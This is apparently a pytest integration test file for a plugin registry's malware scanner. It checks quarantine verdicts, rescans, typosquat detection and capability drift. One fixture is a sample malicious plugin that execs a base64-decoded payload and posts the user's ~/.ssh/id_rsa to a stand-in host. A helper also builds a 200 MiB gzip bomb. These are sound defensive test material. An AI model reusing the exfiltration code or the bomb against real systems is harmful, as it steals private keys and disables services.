"""The scanner end to end against a real nats-server, with the registry: a clean version is cleared, a
malicious one quarantined and refused by resolve with the reason, rescans move verdicts either way, and
hostile input costs a quarantine, never the service."""

from __future__ import annotations

import asyncio
import io
import json
import os
import tarfile
import uuid
from datetime import UTC, datetime

import pytest
from eth_account import Account

from plugyard_artifacts.cid import cid_of
from plugyard_core.artifact_store import put_artifact
from plugyard_core.rpc import RpcError, call
from plugyard_core.streams import event_subject, rpc_subject
from plugyard_scanner.main import build_service as build_scanner
from plugyard_schemas.registry import InfoReply, InfoRequest, ResolveReply, ResolveRequest
from plugyard_schemas.rpc import HealthReply, HealthRequest
from plugyard_schemas.scanner import RescanPlanReply, RescanReply, RescanRequest, ScanStatusReply, ScanStatusRequest
from tests.in_process import start_in_process
from tests.registry.support import make_plugin, publish, release_of

MALICIOUS = '''
import base64, os, urllib.request

_STAGE = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gcHduZWQiKQ=="

def _boot():
    exec(base64.b64decode(_STAGE))
    body = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    urllib.request.urlopen("https://collector.example.invalid/k", data=body.encode())
'''
DYNAMIC = '''
def compute(expression):
    return eval(expression)
'''


@pytest.fixture
def alice():
    return Account.create()


async def version_info(nc, name: str, version: str = "1.0.0"):
    reply = await call(nc, rpc_subject("registry", "info"), InfoRequest(name=name), InfoReply)
    return next(v for v in reply.versions if v.version == version)


async def wait_for_status(nc, name: str, status: str, version: str = "1.0.0", timeout: float = 60.0):
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        info = await version_info(nc, name, version)
        if info.status == status:
            return info
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError(f"{name} {version} stayed {info.status} ({info.status_reason}), expected {status}")
        await asyncio.sleep(0.2)


async def test_clean_version_is_cleared_and_malicious_one_quarantined(stack, nc, tmp_path, alice):
    await publish(nc, release_of(make_plugin(tmp_path, "clean-kit"), tmp_path), alice)
    await publish(nc, release_of(make_plugin(tmp_path, "sneaky-kit", extra=MALICIOUS), tmp_path), alice)
    cleared = await wait_for_status(nc, "clean-kit", "cleared")
    assert cleared.findings == [] or all(f["action"] != "quarantine" for f in cleared.findings)
    quarantined = await wait_for_status(nc, "sneaky-kit", "quarantined")
    rules = {f["rule"] for f in quarantined.findings}
    assert "PY-EXEC-DECODED" in rules, quarantined.findings
    assert "quarantined" in quarantined.status_reason and "PY-EXEC-DECODED" in quarantined.status_reason
    with pytest.raises(RpcError) as refused:
        await call(nc, rpc_subject("registry", "resolve"), ResolveRequest(requirements=["sneaky-kit"]), ResolveReply)
    assert "quarantined" in refused.value.message and "PY-EXEC-DECODED" in refused.value.message
    resolved = await call(nc, rpc_subject("registry", "resolve"), ResolveRequest(requirements=["clean-kit"]), ResolveReply)
    assert [p.name for p in resolved.install_order] == ["clean-kit"]
    status = await call(nc, rpc_subject("scanner", "status"), ScanStatusRequest(name="sneaky-kit", version="1.0.0"), ScanStatusReply)
    assert status.verdict == "quarantined" and status.scans == 1


async def test_scan_events_reach_the_bus_with_their_schema(stack, nc, tmp_path, alice):
    js = nc.jetstream()
    await publish(nc, release_of(make_plugin(tmp_path, "evented"), tmp_path), alice)
    await wait_for_status(nc, "evented", "cleared")
    subscription = await js.subscribe(event_subject("scanner", "ScanCompleted"), deliver_policy="all", ordered_consumer=True)
    message = await subscription.next_msg(timeout=10)
    envelope = json.loads(message.data)
    assert envelope["type"] == "dev.plugyard.scanner.ScanCompleted" and envelope["subject"] == "evented==1.0.0"
    from plugyard_schemas.scanner import ScanCompleted

    data = ScanCompleted.model_validate(envelope["data"])
    assert (data.verdict, data.trigger, data.scan_no) == ("cleared", "published", 1)
    await subscription.unsubscribe()


async def test_rescan_moves_a_verdict_both_ways(stack, nc, tmp_path, alice, monkeypatch, nats_server):
    await publish(nc, release_of(make_plugin(tmp_path, "calc", extra=DYNAMIC), tmp_path), alice)
    warned = await wait_for_status(nc, "calc", "warned")
    assert "B307" in {f["rule"] for f in warned.findings}

    strict = tmp_path / "strict.toml"
    strict.write_text('[rules]\nB307 = "quarantine"\n')
    await stack["scanner"].close()
    monkeypatch.setenv("PLUGYARD_SCAN_POLICY", str(strict))
    stack["scanner"] = await start_in_process(build_scanner(stack["data"], nats_server.url))
    plan = await call(nc, rpc_subject("scanner", "rescan-plan"), RescanRequest(name="calc"), RescanPlanReply)
    assert [(t.name, t.version) for t in plan.targets] == [("calc", "1.0.0")]
    moved = await call(nc, rpc_subject("scanner", "rescan"), RescanRequest(name="calc", version="1.0.0"), RescanReply, timeout=120)
    assert (moved.previous, moved.verdict) == ("warned", "quarantined")
    await wait_for_status(nc, "calc", "quarantined")

    await stack["scanner"].close()
    monkeypatch.delenv("PLUGYARD_SCAN_POLICY")
    stack["scanner"] = await start_in_process(build_scanner(stack["data"], nats_server.url))
    back = await call(nc, rpc_subject("scanner", "rescan"), RescanRequest(name="calc", version="1.0.0"), RescanReply, timeout=120)
    assert (back.previous, back.verdict) == ("quarantined", "warned")
    await wait_for_status(nc, "calc", "warned")
    status = await call(nc, rpc_subject("scanner", "status"), ScanStatusRequest(name="calc", version="1.0.0"), ScanStatusReply)
    assert status.scans == 3


async def test_rescan_requests_that_cannot_be_served_get_clear_errors(stack, nc):
    for request, code in (
        (RescanRequest(name="nothing-here"), "not_found"),
        (RescanRequest(), "invalid_request"),
        (RescanRequest(all=True, name="x"), "invalid_request"),
    ):
        with pytest.raises(RpcError) as refused:
            await call(nc, rpc_subject("scanner", "rescan-plan"), request, RescanPlanReply)
        assert refused.value.code == code
    for subject in ("rescan-plan", "rescan", "status"):
        reply = await nc.request(rpc_subject("scanner", subject), b"{not json", timeout=5)
        assert json.loads(reply.data)["error"]["code"] == "invalid_request"
    await call(nc, rpc_subject("scanner", "health"), HealthRequest(), HealthReply)


def hostile_files() -> dict[str, bytes]:
    return {
        "huge": b"".join(b"v%d = '%s'\n" % (i, os.urandom(24).hex().encode()) for i in range(45_000)),
        "nested": b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\n",
        "binary": bytes(range(256)) * 64,
        "encoding": b"# -*- coding: utf-8 -*-\nname = '\xff\xfe\xfa'\n",
        "deep-list": b"x = " + b"[" * 150 + b"]" * 150 + b"\n" + b"y = " + b"-" * 200_000 + b"1\n",
    }


@pytest.mark.parametrize("kind", sorted(hostile_files()))
async def test_hostile_files_are_quarantined_with_the_reason(stack, nc, tmp_path, alice, kind):
    name = f"hostile-{kind}"
    directory = make_plugin(tmp_path, name)
    (directory / name.replace("-", "_") / "payload.py").write_bytes(hostile_files()[kind])
    await publish(nc, release_of(directory, tmp_path), alice)
    info = await wait_for_status(nc, name, "quarantined", timeout=120)
    assert any(f["rule"].startswith("SCAN-") and f["path"].endswith("payload.py") for f in info.findings), info.findings
    await call(nc, rpc_subject("scanner", "health"), HealthRequest(), HealthReply)


def bomb() -> bytes:
    """A gzip'd tar whose one member inflates to 200 MiB of zeros."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz", compresslevel=9) as archive:
        info = tarfile.TarInfo("plugin.toml")
        info.size = 200 * 1024 * 1024

        class Zeros(io.RawIOBase):
            left = info.size

            def readable(self):
                return True

            def readinto(self, buffer):
                n = min(len(buffer), self.left)
                buffer[:n] = bytes(n)
                self.left -= n
                return n

        archive.addfile(info, io.BufferedReader(Zeros()))
    return raw.getvalue()


async def test_archives_that_should_never_have_been_published_are_quarantined(stack, nc, alice):
    """The registry refuses such archives; a scanner fed one anyway (a compromised publisher of events) keeps going."""
    js = nc.jetstream()
    for name, payload in (("zip-bomb", bomb()), ("not-an-archive", b"\x00garbage" * 100)):
        cid = cid_of(payload)  # the store holds only what matches its CID, so the hostile bytes reach the analysis
        await put_artifact(js, cid, payload)
        data = {
            "name": name, "version": "1.0.0", "cid": cid, "publisher": alice.address, "signature": "0x00", "manifest": {}, "manifest_sha256": "0" * 64,
            "size": len(payload), "sha256": "0" * 64, "published_at": datetime.now(UTC).isoformat(),
        }
        event = {
            "specversion": "1.0", "id": str(uuid.uuid4()), "source": "plugyard/registry", "type": "dev.plugyard.registry.VersionPublished",
            "subject": f"{name}==1.0.0", "time": datetime.now(UTC).isoformat(), "datacontenttype": "application/json", "data": data,
        }
        await js.publish(event_subject("registry", "VersionPublished"), json.dumps(event).encode())
    deadline = asyncio.get_running_loop().time() + 90
    for name in ("zip-bomb", "not-an-archive"):
        while True:
            try:
                status = await call(nc, rpc_subject("scanner", "status"), ScanStatusRequest(name=name, version="1.0.0"), ScanStatusReply)
                break
            except RpcError:
                assert asyncio.get_running_loop().time() < deadline, f"{name} was never scanned"
                await asyncio.sleep(0.2)
        assert status.verdict == "quarantined"
        assert status.findings[0]["rule"] == "SCAN-ARCHIVE", status.findings
    await call(nc, rpc_subject("scanner", "health"), HealthRequest(), HealthReply)


def with_permissions(directory, permissions: str) -> None:
    manifest = directory / "plugin.toml"
    manifest.write_text(manifest.read_text() + permissions)


NETWORK_CODE = '''
import urllib.request

def fetch(url):
    return urllib.request.urlopen(url, timeout=5).read()
'''


async def test_a_name_imitating_another_publishers_plugin_is_quarantined(stack, nc, tmp_path, alice):
    mallory = Account.create()
    await publish(nc, release_of(make_plugin(tmp_path, "summarizer-pro"), tmp_path), alice)
    await wait_for_status(nc, "summarizer-pro", "cleared")
    (tmp_path / "a").mkdir()
    await publish(nc, release_of(make_plugin(tmp_path / "a", "summarizer-pro2"), tmp_path / "a"), alice)
    own = await wait_for_status(nc, "summarizer-pro2", "cleared")  # the same publisher's own family of names
    assert not any(f["rule"] == "META-TYPOSQUAT" for f in own.findings)
    (tmp_path / "m").mkdir()
    await publish(nc, release_of(make_plugin(tmp_path / "m", "sumarizer-pro"), tmp_path / "m"), mallory)
    squat = await wait_for_status(nc, "sumarizer-pro", "quarantined")
    assert any(f["rule"] == "META-TYPOSQUAT" and "summarizer-pro" in f["message"] for f in squat.findings), squat.findings


async def test_a_capability_the_previous_version_lacked_is_shown(stack, nc, tmp_path, alice):
    await publish(nc, release_of(make_plugin(tmp_path, "drifter", "1.0.0"), tmp_path), alice)
    await wait_for_status(nc, "drifter", "cleared", "1.0.0")
    second = make_plugin(tmp_path, "drifter", "1.1.0", extra=NETWORK_CODE)
    with_permissions(second, 'network = ["api.example.com"]\n')
    await publish(nc, release_of(second, tmp_path), alice)
    drifted = await wait_for_status(nc, "drifter", "warned", "1.1.0")
    drift = [f for f in drifted.findings if f["rule"] == "CAP-DRIFT"]
    assert drift and "network" in drift[0]["message"] and "1.0.0" in drift[0]["message"], drifted.findings
    undeclared = make_plugin(tmp_path, "drifter", "1.2.0", extra=NETWORK_CODE)
    await publish(nc, release_of(undeclared, tmp_path), alice)
    refused = await wait_for_status(nc, "drifter", "quarantined", "1.2.0")
    assert "CAP-UNDECLARED-NETWORK" in {f["rule"] for f in refused.findings}
